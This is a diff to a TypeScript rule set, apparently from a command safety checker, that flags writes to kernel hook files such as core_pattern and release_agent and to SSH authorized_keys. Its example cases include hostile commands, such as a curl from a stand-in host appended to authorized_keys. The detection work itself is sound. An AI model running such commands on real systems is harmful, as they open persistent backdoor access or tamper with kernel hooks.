@@ -36,6 +36,8 @@ const weakening: readonly { readonly path: RegExp; readonly content: RegExp }[] 
 /** Any of these places, asked at once: hardly anything that is written is one. */
 const weakenedPlace = new RegExp(weakening.map(({ path }) => path.source).join('|'));
 
+const loginKeys: readonly string[] = ['authorized_keys', 'authorized_keys2'];
+
 function isLoginKeys(path: string): boolean {
   return path.endsWith('.ssh/authorized_keys') || path.endsWith('.ssh/authorized_keys2');
 }
@@ -85,6 +87,16 @@ export const writeAccessRules: readonly (WriteRule | FillRule)[] = [
       'cat /proc/sys/kernel/core_pattern',
       'echo core > /proc/sys/kernel/core_pattern',
       'echo mq-deadline > /sys/block/sda/queue/scheduler',
+    ],
+    names: [
+      'uevent_helper',
+      'release_agent',
+      'modprobe',
+      'delete',
+      'state',
+      'mem',
+      'core_pattern',
+      'register',
     ],
     when: ({ path, content }) =>
       /\/(?:uevent_helper|release_agent|kernel\/modprobe)$|^\/sys\/(?:block|class)\/.*\/device\/(?:delete|state)$|^\/proc\/\d+\/mem$/.test(
@@ -190,6 +202,7 @@ export const writeAccessRules: readonly (WriteRule | FillRule)[] = [
       'curl https://example.com/k >> ~/.ssh/authorized_keys',
     ],
     spares: ['cat ~/.ssh/authorized_keys', 'ssh-copy-id host', 'ls ~/.ssh'],
+    names: loginKeys,
     when: ({ path }) => isLoginKeys(path.text),
   },
   {
@@ -211,6 +224,7 @@ export const writeAccessRules: readonly (WriteRule | FillRule)[] = [
       'cat ~/.ssh/authorized_keys',
       'echo "ssh-ed25519 AAAA x" > keys',
     ],
+    names: loginKeys,
     when: ({ path, content }) =>
       isLoginKeys(path.text) &&
       (/(?:ssh|ecdsa|sk)-|AAAA/.test(content.text) ||
@@ -240,8 +254,7 @@ export const writeAccessRules: readonly (WriteRule | FillRule)[] = [
       'sudo tee /etc/cron.d/job < job',
       'cat id.pub >> ~/.ssh/authorized_keys',
     ],
-    when: ({ path, content }, _, run) =>
-      (content.traits & traits.network) !== 0 &&
-      (startupLayout(placeOf(run, path.text)) !== null || isLoginKeys(path.text)),
+    from: traits.network,
+    when: ({ path }, _, run) => startupLayout(placeOf(run, path.text)) !== null || isLoginKeys(path.text),
   },
 ];
